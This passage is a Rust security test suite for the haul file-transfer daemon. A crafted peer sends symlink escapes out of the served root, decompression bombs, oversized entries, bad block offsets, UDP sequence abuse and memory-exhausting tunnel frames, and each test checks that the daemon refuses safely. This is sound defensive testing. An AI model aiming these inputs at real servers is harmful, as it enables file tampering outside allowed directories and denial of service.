//! The hostile-peer suite (issue #23). A peer built from the project's own
//! crates (`crates/hostile`: a real handshake with a real key, real framing
//! and sealing) sends crafted manifests, blocks, datagrams and tunnel
//! frames, against a daemon (push) and against a pulling client; where the
//! stock client can carry the attack (a crafted source tree), it does.
//!
//! Every case ends with:
//! - a clear error (a `haul:` line and an exit code of the README's table,
//!   or the peer's `Error` message and code); where a link meets a name
//!   the manifest also sends, a safe success (the link replaced, never
//!   followed) is accepted too, and the result is checked;
//! - nothing outside the served root or the destination changed: the
//!   victims under `outside/` keep their content, mode and times, and
//!   nothing appears there;
//! - the daemon's (or the client's) peak memory within its budget;
//! - the daemon alive and serving a normal push and pull afterwards.
//!
//! Loopback only; every process is started here and stopped by its PID;
//! every wait is bounded.

mod common;
#[path = "common/hostile.rs"]
mod harness;

use std::fs;
use std::io::Read;
use std::net::TcpListener;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use common::{ok, random_bytes, temporaries, write_file, Env, HAUL};
use harness::*;
use hostile::{block, blocks_of, chunk, dir, end, file, link, push, Client, Served, Server};
use secure::Keypair;
use wire::datagram::{DATAGRAM_PREFIX, DATA_SEQ_START, FIRST_CHUNK_HEADER_LEN, SEQ_LIMIT};
use wire::tunnel::TunnelFrame;
use wire::{ErrorCode, Msg, Request, CODEC_LZ4, CODEC_NONE, CODEC_ZSTD, TAG_LEN, TRANSPORT_UDP};

use ErrorCode::{BadRequest, DiskFull, Integrity, Limit, OutsideRoot, Permission, Protocol};

/// Exit codes of a path that would lead out of the root or destination.
const ESCAPE: &[i32] = &[7, 8];
/// ... or of a name the receiver keeps for itself (its temporaries).
const RESERVED: &[i32] = &[2, 7, 8];
/// ... or of a manifest that contradicts itself.
const CONFLICT: &[i32] = &[5, 7, 8];
/// Exit codes of a file too large to keep track of, or to hold.
const TOO_LARGE: &[i32] = &[2, 5, 9];
const TOO_LARGE_CODES: &[ErrorCode] = &[BadRequest, Protocol, DiskFull];
const CONFLICT_CODES: &[ErrorCode] = &[Protocol, Permission, OutsideRoot];

/// How long a hostile peer waits for the other side's verdict.
const VERDICT: Duration = Duration::from_secs(20);

/// Temporaries that are files (not links a manifest named so).
fn regular_temporaries(dir: &Path) -> Vec<PathBuf> {
    temporaries(dir)
        .into_iter()
        .filter(|p| fs::symlink_metadata(p).is_ok_and(|m| m.is_file()))
        .collect()
}

// ---------------------------------------------------------------------------
// Cases against a daemon.

struct Case {
    name: &'static str,
    env: Env,
    outside: Outside,
    before: Snapshot,
    daemon: Daemon,
}

impl Case {
    /// A fresh environment with `ROOT/dst`, victims outside, a daemon.
    fn new(name: &'static str, serve: &[&str]) -> Case {
        let env = Env::new();
        fs::create_dir_all(env.root.join("dst")).unwrap();
        let outside = Outside::plant(env.dir.path());
        let before = snapshot(&outside.dir);
        let daemon = Daemon::start(&env, serve);
        Case {
            name,
            env,
            outside,
            before,
            daemon,
        }
    }

    /// `LOCAL/rel`, its parent created.
    fn src(&self, rel: &str) -> PathBuf {
        let p = self.env.local.join(rel);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        p
    }

    fn link(&self, rel: &str, target: &Path) {
        symlink(target, self.src(rel)).unwrap();
    }

    /// `haul cp --daemon --transport tcp ARGS... LOCAL/src ROOT-PATH`.
    fn push(&self, args: &[&str], src: &str, dest: &str) -> Ran {
        let mut all = vec!["--daemon", "--transport", "tcp"];
        all.extend_from_slice(args);
        // A trailing slash is kept: it names a directory's contents.
        let src = format!("{}/{src}", self.env.local.display());
        all.push(&src);
        let remote = self.daemon.remote(dest);
        all.push(&remote);
        run_client(self.env.cp_cmd(&all), CASE_LIMIT)
    }

    /// A push that must succeed (planting the scene).
    fn push_ok(&self, args: &[&str], src: &str, dest: &str) {
        let ran = self.push(args, src, dest);
        assert!(
            ran.code == Some(0),
            "[{}] setting the scene failed: {}",
            self.name,
            ran.describe()
        );
    }

    /// A hostile client with the key the daemon authorizes.
    fn hostile(&self, wish_udp: bool) -> Client {
        let key = Keypair::load(&self.env.home.join("id_x25519")).unwrap();
        Client::connect(self.daemon.addr(), &key, wish_udp)
            .unwrap_or_else(|e| panic!("[{}] hostile handshake failed: {e:?}", self.name))
    }

    /// A hostile client whose request was accepted.
    fn accepted(&self, req: Request) -> Client {
        let mut c = self.hostile(req.transport == TRANSPORT_UDP);
        if let Err(e) = c.request(req) {
            panic!("[{}] the daemon refused the request: {e:?}", self.name);
        }
        c
    }

    /// The verdict of a hostile session: nothing outside changed, the
    /// daemon alive, and the session ended with an `Error` of `codes` (or
    /// `Done`, where `done_ok`).
    fn verdict(&self, ended: &hostile::Ended, codes: &[ErrorCode], done_ok: bool, what: &str) {
        eprintln!("[{what}] the session ended: {}", ended.describe());
        self.outside_unchanged();
        self.daemon.assert_alive(what);
        if done_ok && ended.done.is_some() {
            return;
        }
        let ok = matches!(&ended.error, Some((c, m)) if codes.contains(c) && !m.trim().is_empty());
        assert!(
            ok,
            "[{what}] expected the daemon to end the session with an Error of {codes:?}{}; {}\nits log ends:\n{}",
            if done_ok { " or Done" } else { "" },
            ended.describe(),
            self.daemon.log_tail()
        );
    }

    fn dst(&self, rel: &str) -> PathBuf {
        self.env.root.join("dst").join(rel)
    }

    /// Asserts nothing outside the root changed (the first thing every
    /// case checks, before what landed inside).
    fn outside_unchanged(&self) {
        assert_unchanged(
            &self.before,
            &snapshot(&self.outside.dir),
            "what lies outside the served root",
            self.name,
        );
    }

    /// Nothing outside changed, the daemon within `budget_kib` and
    /// serving.
    fn finish_with(mut self, budget_kib: u64) {
        // A session the case left may still be closing.
        std::thread::sleep(Duration::from_millis(200));
        self.outside_unchanged();
        let name = self.name;
        self.daemon.assert_healthy(&self.env, budget_kib, name);
    }

    fn finish(self) {
        self.finish_with(DAEMON_BUDGET_KIB)
    }
}

// --- Crafted source trees, pushed by the stock client. ---

/// Pushes a tree holding `src/NAME`, a link out of the root, beside
/// `src/x` (`size` bytes): nothing outside changes, and a transfer that
/// goes on places `x` whole.
fn push_link_named_like_a_temporary(name: &'static str, link_name: &str, size: usize, seed: u64) {
    let case = Case::new(name, &[]);
    case.link(
        &format!("src/{link_name}"),
        &case.outside.path("victim.txt"),
    );
    fs::write(case.src("src/x"), random_bytes(size, seed)).unwrap();
    let ran = case.push(&["-r", "--block-size", "64K"], "src", "/dst");
    case.outside_unchanged();
    if assert_refused_or_ok(&ran, RESERVED, case.name) {
        assert_eq!(
            fs::read(case.dst("src/x")).unwrap(),
            random_bytes(size, seed)
        );
    }
    case.finish();
}

/// Issue case 1: `.x.haul.part`, a link out of the root, beside `x`.
#[test]
fn push_temporary_name_is_a_link_out_of_the_root() {
    push_link_named_like_a_temporary("push: .x.haul.part links out", ".x.haul.part", 100_000, 1);
}

/// Issue case 1, by the journal: `.x.haul.journal` links out, and `x` is
/// several blocks, so it keeps a journal.
#[test]
fn push_journal_name_is_a_link_out_of_the_root() {
    push_link_named_like_a_temporary(
        "push: .x.haul.journal links out",
        ".x.haul.journal",
        300_000,
        2,
    );
}

/// An earlier push leaves `dst/NAME` as a link out of the root; a second
/// push with `flags` sends a directory `NAME` (of `mode`, if given): the
/// link is never followed, and a transfer that goes on leaves a real
/// directory there.
fn push_dir_over_a_left_link(
    name: &'static str,
    entry: &str,
    outside: &str,
    flags: &[&str],
    mode: Option<u32>,
) {
    let case = Case::new(name, &[]);
    case.link(&format!("s1/{entry}"), &case.outside.path(outside));
    case.push_ok(&["-r"], "s1/", "/dst/");
    let dir = case.src(&format!("s2/{entry}"));
    fs::create_dir_all(&dir).unwrap();
    if let Some(mode) = mode {
        fs::set_permissions(&dir, fs::Permissions::from_mode(mode)).unwrap();
    }
    let mut args = vec!["-r"];
    args.extend_from_slice(flags);
    let ran = case.push(&args, "s2/", "/dst/");
    case.outside_unchanged();
    if assert_refused_or_ok(&ran, ESCAPE, case.name) {
        let m = fs::symlink_metadata(case.dst(entry)).unwrap();
        assert!(m.is_dir(), "[{}] dst/{entry} is not a directory", case.name);
    }
    case.finish();
}

/// Issue case 4: `--delete` through a link an earlier push left.
#[test]
fn push_delete_does_not_follow_a_link_left_in_the_destination() {
    push_dir_over_a_left_link(
        "push: --delete through a link left before",
        "d",
        "vdir",
        &["--delete"],
        None,
    );
}

/// Issue case 5: `-p` applies a directory's mode and time through a link.
#[test]
fn push_preserve_does_not_follow_a_link_left_in_the_destination() {
    push_dir_over_a_left_link(
        "push: -p through a link left before",
        "e",
        "pdir",
        &["-p"],
        Some(0o1777),
    );
}

/// Issue case 6: dedup reads the file a destination link points to and
/// tells the peer its chunks. The file sent is the secret itself, so any
/// byte saved by dedup was read outside the root.
#[test]
fn push_dedup_reads_nothing_through_a_link_left_in_the_destination() {
    let case = Case::new("push: dedup through a link left before", &[]);
    case.link("s1/s", &case.outside.path("secret.bin"));
    case.push_ok(&["-r"], "s1/", "/dst/");
    fs::write(case.src("s2/s"), case.outside.secret()).unwrap();
    let ran = case.push(&["-r", "--json"], "s2/", "/dst/");
    case.outside_unchanged();
    if assert_refused_or_ok(&ran, ESCAPE, case.name) {
        let json = ran.json().expect("--json output");
        let saved = json["saved_dedup_bytes"].as_u64().unwrap_or(0);
        assert_eq!(
            saved, 0,
            "[{}] dedup saved {saved} bytes: the daemon read the secret outside its root through dst/s and announced its chunks",
            case.name
        );
        assert!(!fs::symlink_metadata(case.dst("s")).unwrap().is_symlink());
    }
    case.finish();
}

/// `--basis` naming a link out of the root, or a path through one.
#[test]
fn push_basis_through_a_link_is_refused() {
    let case = Case::new("push: --basis through links", &[]);
    symlink(case.outside.path("secret.bin"), case.env.root.join("lnk")).unwrap();
    symlink(case.outside.path("vdir"), case.env.root.join("ldir")).unwrap();
    fs::write(case.src("new.bin"), case.outside.secret()).unwrap();
    for basis in ["/lnk", "/ldir/a.txt"] {
        let ran = case.push(&["--json", "--basis", basis], "new.bin", "/dst/new.bin");
        case.outside_unchanged();
        if assert_refused_or_ok(&ran, ESCAPE, case.name) {
            let json = ran.json().expect("--json output");
            let saved = json["saved_dedup_bytes"].as_u64().unwrap_or(0);
            assert_eq!(saved, 0, "[{}] --basis {basis} was read", case.name);
        }
    }
    case.finish();
}

/// A link left in the destination, then a directory of that name with a
/// file in it: the file must not land outside.
#[test]
fn push_into_a_directory_that_is_a_link_left_in_the_destination() {
    let case = Case::new("push: parent directory is a link left before", &[]);
    case.link("s1/p", &case.outside.path("vdir"));
    case.push_ok(&["-r"], "s1/", "/dst/");
    fs::write(case.src("s2/p/new.txt"), b"new\n").unwrap();
    let ran = case.push(&["-r"], "s2/", "/dst/");
    case.outside_unchanged();
    if assert_refused_or_ok(&ran, ESCAPE, case.name) {
        let m = fs::symlink_metadata(case.dst("p")).unwrap();
        assert!(m.is_dir(), "[{}] dst/p is not a directory", case.name);
    }
    case.finish();
}

// --- A hostile client against the daemon. ---

/// A link out of the root, then a file under it, in one manifest.
#[test]
fn hostile_link_then_child_entry() {
    let case = Case::new("hostile: link then child", &[]);
    let mut c = case.accepted(push("dst"));
    let data = b"0123456789".to_vec();
    let vdir = case.outside.path("vdir");
    let _ = c.send(&[
        link(0, "t", vdir.as_os_str().as_encoded_bytes()),
        file(1, "t/f", 10),
        end(1, 10),
    ]);
    let _ = c.send_block(0, &block(1, 0, hostile::BLOCK, &data), &data);
    case.verdict(&c.finish(VERDICT), CONFLICT_CODES, false, case.name);
    case.finish();
}

/// Issue case 4 in one session: a link and a directory of the same name,
/// under `--delete`.
#[test]
fn hostile_link_and_directory_of_one_name_with_delete() {
    let case = Case::new("hostile: link and dir of one name, --delete", &[]);
    let mut req = push("dst");
    req.sync.delete = true;
    let mut c = case.accepted(req);
    let vdir = case.outside.path("vdir");
    let _ = c.send(&[
        dir(0, "t", 0o755),
        link(1, "t/d", vdir.as_os_str().as_encoded_bytes()),
        dir(2, "t/d", 0o755),
        end(0, 0),
    ]);
    let ended = c.finish(VERDICT);
    case.verdict(&ended, CONFLICT_CODES, true, case.name);
    case.finish();
}

/// A link out of the root named like the temporary of the file that
/// follows it, in one manifest.
#[test]
fn hostile_temporary_name_link_then_file() {
    let case = Case::new("hostile: .f.haul.part link then f", &[]);
    let mut c = case.accepted(push("dst"));
    let data = random_bytes(50_000, 3);
    let victim = case.outside.path("victim.txt");
    let _ = c.send(&[
        link(0, ".f.haul.part", victim.as_os_str().as_encoded_bytes()),
        file(1, "f", data.len() as u64),
        end(1, data.len() as u64),
    ]);
    let _ = c.send_block(0, &block(1, 0, hostile::BLOCK, &data), &data);
    let ended = c.finish(VERDICT);
    case.verdict(
        &ended,
        &[BadRequest, Permission, OutsideRoot],
        true,
        case.name,
    );
    case.finish();
}

/// One path, two file entries with different contents, blocks
/// interleaved: refused, or one of them in place whole; nothing torn.
#[test]
fn hostile_duplicate_file_paths() {
    let case = Case::new("hostile: duplicate file paths", &[]);
    let mut c = case.accepted(push("dst"));
    let (a, b) = (random_bytes(200_000, 4), random_bytes(150_000, 5));
    let _ = c.send(&[
        file(0, "dup", a.len() as u64),
        file(1, "dup", b.len() as u64),
        end(2, (a.len() + b.len()) as u64),
    ]);
    let (ba, ea) = blocks_of(0, hostile::BLOCK, &a);
    let (bb, eb) = blocks_of(1, hostile::BLOCK, &b);
    for i in 0..ba.len().max(bb.len()) {
        for bl in [ba.get(i), bb.get(i)].into_iter().flatten() {
            let _ = c.send_block(0, &bl.0, &bl.1);
        }
    }
    let _ = c.send(&[ea.unwrap(), eb.unwrap()]);
    let ended = c.finish(VERDICT);
    case.verdict(&ended, CONFLICT_CODES, true, case.name);
    // Whatever sits under the final name is one of the two, whole; a
    // refused transfer may keep a verified partial for a resume (P-35).
    if let Ok(got) = fs::read(case.dst("dup")) {
        assert!(got == a || got == b, "[{}] dst/dup is torn", case.name);
    }
    if ended.done.is_some() {
        let left = regular_temporaries(&case.env.root);
        assert!(
            left.is_empty(),
            "[{}] temporaries left: {left:?}",
            case.name
        );
    }
    case.finish();
}

/// Issue case 2: one entry of 0xFFFF_FFFF blocks of 64 KiB.
#[test]
fn hostile_huge_entry() {
    let case = Case::new("hostile: one entry of 2^32-1 blocks", &[]);
    let mut c = case.accepted(push("dst"));
    let _ = c.send(&[file(0, "huge", 0xFFFF_FFFFu64 * 65536)]);
    let ended = c.finish(VERDICT);
    case.verdict(&ended, TOO_LARGE_CODES, false, case.name);
    case.finish();
}

/// Many entries of a million blocks each, under `--update --checksum`,
/// where a file is opened only once its digest comes (which never does).
#[test]
fn hostile_many_huge_entries() {
    let case = Case::new("hostile: 512 entries of 2^20 blocks", &[]);
    fs::write(case.dst("keep"), b"keep\n").unwrap();
    let mut req = push("dst");
    req.sync.dedup = true;
    req.sync.update = true;
    req.sync.checksum = true;
    let mut c = case.accepted(req);
    let entries: Vec<Msg> = (0..512u32)
        .map(|i| file(i, format!("h{i}"), 1 << 36))
        .collect();
    let _ = c.send(&entries);
    // Refused, or still waiting for the digests: either way within budget.
    let ended = c.finish(Duration::from_secs(8));
    case.daemon.assert_alive(case.name);
    if ended.error.is_some() {
        case.verdict(&ended, TOO_LARGE_CODES, false, case.name);
    }
    case.finish();
}

/// Issue case "offsets past the end": blocks that do not fit their file.
#[test]
fn hostile_blocks_past_the_end() {
    let case = Case::new("hostile: blocks past the end", &[]);
    let size = 100_000u64; // two blocks of 64 KiB: 65 536 and 34 464
    let bs = hostile::BLOCK;
    let data = random_bytes(34_464, 6);
    let full = random_bytes(65_536, 7);
    let h = |index, offset, d: &[u8]| wire::BlockHeader {
        offset,
        ..block(0, index, bs, d)
    };
    let variants: Vec<(&str, wire::BlockHeader, Vec<u8>)> = vec![
        (
            "index past the last block",
            h(2, 2 * bs as u64, &data),
            data.clone(),
        ),
        (
            "offset not index x block size",
            h(1, 0, &data),
            data.clone(),
        ),
        (
            "length of a whole block at the end",
            block(0, 1, bs, &full),
            full.clone(),
        ),
        (
            "offset near 2^64",
            h(0, u64::MAX - 100, &full),
            full.clone(),
        ),
        (
            "index 2^32-1",
            h(u32::MAX, u64::MAX / 2, &data),
            data.clone(),
        ),
    ];
    for (what, header, bytes) in variants {
        let mut c = case.accepted(push("dst"));
        let _ = c.send(&[file(0, "f", size), end(1, size)]);
        let _ = c.send_block(0, &header, &bytes);
        let ended = c.finish(VERDICT);
        case.verdict(
            &ended,
            &[Protocol],
            false,
            &format!("{}: {what}", case.name),
        );
    }
    // Zero blocks announced past the end.
    let mut c = case.accepted(push("dst"));
    let _ = c.send(&[file(0, "f", size), end(1, size), Msg::Zeros(vec![(0, 7)])]);
    case.verdict(
        &c.finish(VERDICT),
        &[Protocol],
        false,
        &format!("{}: zeros", case.name),
    );
    case.finish();
}

/// A block for a file the finished manifest never named.
#[test]
fn hostile_block_for_a_file_not_in_the_manifest() {
    let case = Case::new("hostile: block for an unknown file", &[]);
    let mut c = case.accepted(push("dst"));
    let data = b"0123456789".to_vec();
    let _ = c.send(&[file(0, "f", 10), end(1, 10)]);
    let _ = c.send_block(0, &block(9, 0, hostile::BLOCK, &data), &data);
    case.verdict(&c.finish(VERDICT), &[Protocol], false, case.name);
    case.finish();
}

/// zstd and lz4 frames that decompress far past their block, and a packed
/// control message that decompresses past its claim.
#[test]
fn hostile_decompression_bombs() {
    let case = Case::new("hostile: decompression bombs", &[]);
    let mut coder = codec::Coder::new();
    let zeros = vec![0u8; 64 << 20];
    let mut zstd_bomb = Vec::new();
    coder.compress(codec::Codec::Zstd(3), &zeros, &mut zstd_bomb);
    let mut lz4_bomb = Vec::new();
    coder.compress(codec::Codec::Lz4, &zeros[..8 << 20], &mut lz4_bomb);
    let len = 65_536u32;
    let real = random_bytes(len as usize, 8);
    for (what, codec, bomb) in [
        ("zstd", CODEC_ZSTD, &zstd_bomb),
        ("lz4", CODEC_LZ4, &lz4_bomb),
    ] {
        assert!(bomb.len() < len as usize, "{what} bomb too large");
        let mut c = case.accepted(push("dst"));
        let _ = c.send(&[file(0, "bomb", len as u64), end(1, len as u64)]);
        let h = wire::BlockHeader {
            codec,
            wire_len: bomb.len() as u32,
            ..block(0, 0, hostile::BLOCK, &real)
        };
        let _ = c.send_block(0, &h, bomb);
        // Asked for again like any damaged block, or refused outright.
        let (msgs, how) = c.read_for(VERDICT, |m| matches!(m, Msg::Nack { .. }));
        let ok = msgs.iter().any(|m| match m {
            Msg::Nack { file: 0, index: 0 } => true,
            Msg::Error { code, .. } => [Protocol, Integrity].contains(code),
            _ => false,
        });
        case.daemon.assert_alive(case.name);
        assert!(
            ok,
            "[{}] the {what} bomb got neither a Nack nor an Error: {msgs:?} ({how})",
            case.name
        );
        c.close();
    }
    let mut packed = Vec::new();
    coder.compress(codec::Codec::Zstd(3), &vec![1u8; 256 << 20], &mut packed);
    let mut c = case.accepted(push("dst"));
    let _ = c.send_one(&Msg::Packed {
        raw_len: 1 << 20,
        data: packed,
    });
    case.verdict(
        &c.finish(VERDICT),
        &[Protocol],
        false,
        &format!("{}: packed", case.name),
    );
    case.finish();
}

/// A session asking for 256 streams of `block_size` blocks; on every
/// stream the daemon grants, a frame of the largest length the protocol
/// allows is announced and only its first MiB sent. Returns the session,
/// kept open, and the streams granted.
fn announce_maximum_frames(case: &Case, block_size: u32) -> (Client, usize) {
    let mut req = push("dst");
    req.streams = 256;
    req.block_size = block_size;
    let mut c = case.accepted(req);
    let _ = c.send(&[file(0, "f", 10)]);
    let mut head = wire::MAX_FRAME_LEN.to_le_bytes().to_vec();
    head.extend_from_slice(&random_bytes(1 << 20, 9));
    let granted = c.data.len();
    for i in 0..granted {
        let _ = c.send_raw(i, &head);
    }
    (c, granted)
}

/// Asserts the daemon is alive and its peak memory within budget.
fn assert_within_budget(case: &Case, what: &str) {
    case.daemon.assert_alive(case.name);
    let peak = case.daemon.peak_kib().unwrap_or(0);
    assert!(
        peak < DAEMON_BUDGET_KIB,
        "[{}] the daemon's peak memory reached {} MiB with {what}, over its budget of {} MiB",
        case.name,
        peak >> 10,
        DAEMON_BUDGET_KIB >> 10
    );
}

/// Issue: 256 streams of maximum frames: with 16 MiB blocks, then with
/// 64 KiB blocks (whose frames are far shorter than the largest the
/// protocol allows).
#[test]
fn hostile_256_streams_of_maximum_frames() {
    let case = Case::new("hostile: 256 streams of maximum frames", &[]);
    for bs in [wire::MAX_BLOCK_SIZE, hostile::BLOCK] {
        let (c, granted) = announce_maximum_frames(&case, bs);
        // Let the daemon's readers take what was sent.
        std::thread::sleep(Duration::from_secs(2));
        let what = format!("{granted} of 256 streams granted, blocks of {bs} bytes");
        eprintln!("[{}] {what}", case.name);
        assert_within_budget(&case, &format!("maximum frames announced on {what}"));
        c.close();
    }
    case.finish();
}

/// The same from four sessions at once: a limit per session does not
/// bound the daemon.
#[test]
fn hostile_four_sessions_of_maximum_frames() {
    let case = Case::new("hostile: 4 sessions of maximum frames", &[]);
    let sessions: Vec<(Client, usize)> = (0..4)
        .map(|_| announce_maximum_frames(&case, wire::MAX_BLOCK_SIZE))
        .collect();
    std::thread::sleep(Duration::from_secs(2));
    let granted: Vec<usize> = sessions.iter().map(|(_, g)| *g).collect();
    assert_within_budget(
        &case,
        &format!("4 sessions announcing maximum frames on {granted:?} streams"),
    );
    for (c, _) in sessions {
        c.close();
    }
    case.finish();
}

// --- The UDP channel. ---

/// A push over the UDP channel of one file: its manifest, then `wild`
/// (datagrams of the test's choice), then the file's real chunks with
/// ordinary sequence numbers. The daemon refuses with `Protocol`, or
/// places the file whole.
fn udp_case(name: &'static str, wild: impl FnOnce(&Client, &[u8], usize)) {
    let case = Case::new(name, &[]);
    let mut req = push("dst");
    req.transport = TRANSPORT_UDP;
    let mut c = case.accepted(req);
    let per = c.udp.as_ref().expect("UDP channel").payload
        - DATAGRAM_PREFIX
        - FIRST_CHUNK_HEADER_LEN
        - TAG_LEN;
    let data = random_bytes(60_000, 10);
    let _ = c.send(&[
        file(0, "u.bin", data.len() as u64),
        end(1, data.len() as u64),
    ]);
    wild(&c, &data, per);
    std::thread::sleep(Duration::from_millis(200));
    let hash = block(0, 0, hostile::BLOCK, &data).hash;
    for (k, piece) in data.chunks(per).enumerate() {
        let h = chunk(0, 0, (k * per) as u32, data.len() as u32, hash);
        let _ = c.datagram(DATA_SEQ_START + 1000 + k as u64, &h, piece);
    }
    let ended = c.finish(VERDICT);
    case.verdict(&ended, &[Protocol], true, name);
    if ended.done.is_some() {
        assert_eq!(fs::read(case.dst("u.bin")).unwrap(), data, "[{name}] u.bin");
    }
    case.finish();
}

/// The first chunk of the file with sequence number `seq`.
fn one_chunk(c: &Client, data: &[u8], per: usize, seq: u64) {
    let h = chunk(
        0,
        0,
        0,
        data.len() as u32,
        block(0, 0, hostile::BLOCK, data).hash,
    );
    let _ = c.datagram(seq, &h, &data[..per]);
}

/// Issue case 3: a datagram with the largest sequence number the wire
/// carries (48 bits since protocol 21; it was 2^64 - 1).
#[test]
fn hostile_udp_sequence_number_at_the_wires_largest() {
    udp_case("hostile: UDP seq 2^48-1", |c, d, per| {
        one_chunk(c, d, per, SEQ_LIMIT - 1)
    });
}

/// Issue case 3: a datagram with the largest sequence number less one.
#[test]
fn hostile_udp_sequence_number_at_the_wires_largest_minus_one() {
    udp_case("hostile: UDP seq 2^48-2", |c, d, per| {
        one_chunk(c, d, per, SEQ_LIMIT - 2)
    });
}

/// A datagram 2^40 ahead of the sequence, then one just past it.
#[test]
fn hostile_udp_sequence_number_far_ahead() {
    udp_case("hostile: UDP seq far ahead", |c, d, per| {
        one_chunk(c, d, per, DATA_SEQ_START + (1 << 40));
        one_chunk(c, d, per, DATA_SEQ_START + (1 << 40) + 1);
    });
}

/// Issue case 3: chunks of 16 MiB blocks no manifest entry names, each
/// touching its assembly every 1 MiB.
#[test]
fn hostile_udp_assemblies_for_blocks_that_do_not_exist() {
    udp_case(
        "hostile: UDP chunks of blocks not in the manifest",
        |c, d, per| {
            let filler = vec![7u8; per];
            let mut seq = DATA_SEQ_START;
            let big = wire::MAX_BLOCK_SIZE;
            for k in 0..1024u32 {
                for off in (0..big).step_by(1 << 20) {
                    let h = chunk(1000 + k, k, off, big, [k as u8; 32]);
                    let _ = c.datagram(seq, &h, &filler);
                    seq += 1;
                }
                // Paced, so that the receiver takes them rather than drops.
                std::thread::sleep(Duration::from_millis(1));
            }
            let _ = d;
        },
    );
}

// --- Tunnels. ---

/// A TCP service that takes whatever comes and counts its connections.
struct Sink {
    port: u16,
    conns: Arc<AtomicUsize>,
}

fn sink() -> Sink {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let conns = Arc::new(AtomicUsize::new(0));
    let c2 = conns.clone();
    std::thread::spawn(move || {
        for s in l.incoming().flatten() {
            c2.fetch_add(1, Ordering::SeqCst);
            std::thread::spawn(move || {
                let mut s = s;
                let mut buf = vec![0u8; 1 << 20];
                while matches!(s.read(&mut buf), Ok(n) if n > 0) {}
            });
        }
    });
    Sink { port, conns }
}

/// Memory a tunnel session may use on the daemon: its windows and history
/// are a few tens of MiB.
const TUNNEL_BUDGET_KIB: u64 = 512 << 10;

/// Issue case 8: a tunnel peer whose byte-cache positions start at 1, so
/// position 0 never comes and the receiver's history never moves on.
#[test]
fn hostile_tunnel_never_sends_position_zero() {
    let sink = sink();
    let target = format!("127.0.0.1:{}", sink.port);
    let case = Case::new(
        "hostile: tunnel without position 0",
        &["--tunnel-to", &target],
    );
    let mut c = case.accepted(hostile::tunnel(&target, 1));
    let lane = c.data.remove(0);
    let (mut reader, mut writer) = (lane.reader, lane.writer);
    let credit = Arc::new(AtomicU64::new(tunnel::INITIAL_CREDIT));
    let lane_end = Arc::new(Mutex::new(None::<String>));
    let (cr, le) = (credit.clone(), lane_end.clone());
    let reading = std::thread::spawn(move || loop {
        match hostile::lanes::recv(&mut reader) {
            Ok(Some(frames)) => {
                for f in frames {
                    match f {
                        TunnelFrame::Credit { id: 1, max } => {
                            cr.fetch_max(max, Ordering::SeqCst);
                        }
                        TunnelFrame::Reset { reason, .. } => {
                            le.lock().unwrap().get_or_insert(format!("reset: {reason}"));
                        }
                        _ => {}
                    }
                }
            }
            Ok(None) => {
                le.lock().unwrap().get_or_insert("lane closed".into());
                break;
            }
            Err(e) => {
                le.lock().unwrap().get_or_insert(e);
                break;
            }
        }
    });
    let opened = hostile::lanes::send(
        &mut writer,
        &[TunnelFrame::Credit {
            id: 1,
            max: 1 << 40,
        }],
    );
    assert!(opened.is_ok(), "[{}] opening connection 1", case.name);
    const FRAME: u64 = 64 << 10;
    const TOTAL: u64 = 768 << 20;
    let data = random_bytes(FRAME as usize, 11);
    let (mut off, deadline) = (0u64, Instant::now() + Duration::from_secs(40));
    while off < TOTAL && Instant::now() < deadline && lane_end.lock().unwrap().is_none() {
        if credit.load(Ordering::SeqCst) < off + 4 * FRAME {
            std::thread::sleep(Duration::from_millis(1));
            continue;
        }
        let frames: Vec<TunnelFrame> = (0..4)
            .map(|k| TunnelFrame::Data {
                id: 1,
                offset: off + k * FRAME,
                pos: off + k * FRAME + 1,
                codec: CODEC_NONE,
                raw_len: FRAME as u32,
                plain_len: FRAME as u32,
                data: data.clone(),
            })
            .collect();
        if hostile::lanes::send(&mut writer, &frames).is_err() {
            break;
        }
        off += 4 * FRAME;
    }
    std::thread::sleep(Duration::from_millis(300));
    case.daemon.assert_alive(case.name);
    let ended = c.finish(Duration::from_secs(3));
    // How the lane stood before this side closed it.
    let lane = lane_end.lock().unwrap().clone();
    let _ = writer.get_ref().shutdown(std::net::Shutdown::Both);
    let _ = reading.join();
    eprintln!(
        "[{}] sent {} MiB; lane: {:?}; control: {}",
        case.name,
        off >> 20,
        lane,
        ended.describe()
    );
    // Memory first: the history must not have held what it was sent.
    case.outside_unchanged();
    case.daemon.assert_alive(case.name);
    let peak = case.daemon.peak_kib().unwrap_or(0);
    assert!(
        peak < TUNNEL_BUDGET_KIB,
        "[{}] the daemon's peak memory reached {} MiB after {} MiB of frames none of which was at position 0, over the {} MiB a tunnel session may take",
        case.name,
        peak >> 10,
        off >> 20,
        TUNNEL_BUDGET_KIB >> 10
    );
    // Then, if the daemon ended the session, a clear end: an Error on
    // control, or the connection reset with a reason on the lane. (One
    // that took every frame within budget and goes on is fine.)
    let going_on = off >= TOTAL && lane.is_none() && ended.error.is_none();
    let lane = lane.unwrap_or_default();
    // A limit this side's budget sets is told as such (`Limit`, exit 15).
    let told = matches!(&ended.error, Some((Protocol | Limit, m)) if !m.is_empty())
        || lane.starts_with("reset: ");
    assert!(
        told || going_on,
        "[{}] the daemon ended the tunnel session after {} MiB without telling the peer why (control: {}; lane: {lane:?}); its log ends:\n{}",
        case.name,
        off >> 20,
        ended.describe(),
        case.daemon.log_tail()
    );
    case.finish_with(TUNNEL_BUDGET_KIB);
}

/// Issue case 8: `haul serve --stdio --root` is confined to its root, and
/// tunnels anywhere are no part of that.
#[test]
fn stdio_server_with_a_root_tunnels_nowhere() {
    let sink = sink();
    let env = Env::new();
    let root = env.root.to_str().unwrap().to_string();
    let srv = hostile::stdio::StdioServer::start(Path::new(HAUL), &["--root", &root])
        .expect("start haul serve --stdio");
    let mut c = srv.connect(false).expect("connect with the one-time key");
    let target = format!("127.0.0.1:{}", sink.port);
    match c.request(hostile::tunnel(&target, 1)) {
        Err(e) => assert!(
            [Permission, BadRequest].contains(&e.code) && !e.message.is_empty(),
            "refused with {e:?}, expected Permission (7)"
        ),
        Ok(_) => {
            let mut lane = c.data.remove(0);
            let _ = hostile::lanes::send(
                &mut lane.writer,
                &[TunnelFrame::Credit {
                    id: 1,
                    max: 1 << 20,
                }],
            );
            std::thread::sleep(Duration::from_millis(500));
            panic!(
